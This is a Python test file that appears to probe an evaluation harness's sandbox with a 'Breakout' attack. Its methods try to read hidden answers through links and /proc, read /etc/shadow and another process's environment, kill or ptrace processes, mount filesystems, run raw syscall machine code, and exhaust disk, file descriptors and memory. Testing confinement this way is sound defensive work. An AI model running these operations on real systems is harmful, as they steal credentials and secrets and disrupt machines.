"""An attack that tries to break out of the sandbox in several ways, and prints the outcome of each."""

import ctypes
import mmap
import os
import signal
import socket
import subprocess
import time
from collections.abc import Callable, Iterator
from pathlib import Path

from harness import Attack, Context, Field, Guesses, Params
from harness.core import paths

LIBC = ctypes.CDLL(None, use_errno=True)


class BreakoutParams(Params):
    actions: list[str] = Field(description="The methods to call, in this order.")
    answers: str = Field("", description="Path of the answers.")
    victim: int = Field(0, description="A process outside the sandbox.")
    port: int = Field(9, description="A TCP and UDP port with a listener.")
    unix_socket: str = Field("", description="A Unix socket with a listener.")
    outside: list[str] = Field([], description="Directories of the user.")


class Breakout(Attack[BreakoutParams]):
    name = "breakout"
    uses_target = False

    def run(self, context: Context) -> Iterator[Guesses]:
        yield Guesses(context.ids[:1], context.prefixes[:1, : context.suffix_length], [0.0])
        for name in self.params.actions:
            action: Callable[[], object] = getattr(self, f"_{name}")
            try:
                result = action()
            except (OSError, ValueError, subprocess.SubprocessError) as error:
                print(f"{name}: refused ({type(error).__name__})", flush=True)
            else:
                print(f"{name}: DONE {result!r:.60}", flush=True)

    def _read_by_path(self) -> bytes:
        return Path(self.params.answers).read_bytes()

    def _read_by_link(self) -> bytes:
        Path("planted").symlink_to(self.params.answers)
        return Path("planted").read_bytes()

    def _read_by_hard_link(self) -> bytes:
        Path("hard").hardlink_to(self.params.answers)
        return Path("hard").read_bytes()

    def _read_through_parent(self) -> bytes:
        for pid in (os.getppid(), self.params.victim):
            for name in ("root", "cwd"):
                try:
                    return Path(f"/proc/{pid}/{name}{self.params.answers}").read_bytes()
                except OSError:
                    continue
        raise OSError

    def _read_parents_environment(self) -> bytes:
        return Path(f"/proc/{self.params.victim}/environ").read_bytes()

    def _read_through_descriptors(self) -> str:
        """Return the file of an open descriptor other than the pipes."""
        for number in range(3, 256):
            try:
                link = Path(f"/proc/self/fd/{number}").readlink()
            except OSError:
                continue
            if not str(link).startswith(("pipe:", "/proc/", "/dev/null")):
                return str(link)
        raise OSError

    def _read_through_pid_1(self) -> str:
        for name in os.listdir("/proc/1/fd"):
            link = str(Path(f"/proc/1/fd/{name}").readlink())
            if link.startswith("/") and link != os.devnull:
                return link
        raise OSError

    def _read_package(self) -> bytes:
        for answers in (paths.BUILT_IN_ROUNDS / "demo" / "suffix.npy", *paths.BUILT_IN_ANSWERS):
            try:
                return answers.read_bytes()
            except OSError:
                continue
        raise OSError

    def _read_shadow(self) -> bytes:
        return Path("/etc/shadow").read_bytes()

    def _tcp(self) -> None:
        socket.create_connection(("127.0.0.1", self.params.port), timeout=2).close()

    def _udp(self) -> int:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            return client.sendto(b"x", ("127.0.0.1", self.params.port))

    def _unix(self) -> None:
        with socket.socket(socket.AF_UNIX) as client:
            client.connect(self.params.unix_socket)

    def _unix_datagram(self) -> int:
        with socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0] as one:
            return one.sendto(b"x", self.params.unix_socket)

    def _dns(self) -> str:
        return socket.gethostbyname("example.org")

    def _raw(self) -> None:
        socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close()

    def _write_outside(self) -> str:
        for folder in (*self.params.outside, "/tmp", "/usr", "/etc", "/dev", "/"):
            try:
                file = Path(folder) / "breakout"
                file.touch()
            except OSError:
                continue
            return str(file)
        raise OSError

    def _write_source(self) -> None:
        (paths.PACKAGE / "__init__.py").open("a").close()

    def _write_sysctl(self) -> None:
        os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY))

    def _kill_victim(self) -> None:
        os.kill(self.params.victim, signal.SIGKILL)

    def _kill_all(self) -> None:
        """Signal every process."""
        os.kill(-1, 0)

    def _ptrace(self) -> None:
        if LIBC.ptrace(ctypes.c_long(0x4206), self.params.victim, None, None) != 0:
            raise OSError

    def _process_vm_readv(self) -> None:
        span = (ctypes.c_size_t * 2)()
        if LIBC.process_vm_readv(self.params.victim, span, 1, span, 1, 0) < 0:
            raise OSError

    def _clock(self) -> None:
        time.clock_settime(time.CLOCK_REALTIME, 0)

    def _mount(self) -> None:
        if LIBC.mount(b"none", b"/usr", b"tmpfs", 0, None) != 0:
            raise OSError

    def _quota(self) -> None:
        """quotactl(Q_SYNC), which needs no capability."""
        if LIBC.quotactl(0x80000100, None, 0, None) != 0:
            raise OSError

    def _namespaces(self) -> None:
        if LIBC.unshare(0x10000000) != 0:
            raise OSError

    def _other_architecture(self) -> None:
        """socket(AF_INET, SOCK_STREAM, 0) by the numbers of 32-bit programs (int 0x80, call 359)."""
        code = bytes.fromhex("53 b867010000 bb02000000 b901000000 31d2 cd80 5b c3")
        memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        memory.write(code)
        address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
        if ctypes.CFUNCTYPE(ctypes.c_int)(address)() < 0:
            raise OSError

    def _setuid(self) -> str:
        return subprocess.run(["su", "-c", "id"], check=True, capture_output=True, timeout=5).stdout.decode()

    def _capabilities(self) -> None:
        status = Path("/proc/self/status").read_text()
        if "CapEff:\t0000000000000000" in status and "CapBnd:\t0000000000000000" in status:
            raise OSError

    def _big_file(self) -> None:
        with Path("big").open("wb") as file:
            os.posix_fallocate(file.fileno(), 5 << 30, 1)

    def _many_files(self) -> int:
        opened = []
        try:
            for _ in range(100_000):
                opened.append(os.open(os.devnull, os.O_RDONLY))
        finally:
            for descriptor in opened:
                os.close(descriptor)
        return len(opened)

    def _memory(self) -> None:
        held = []
        while True:
            held.append(b"\1" * (64 << 20))
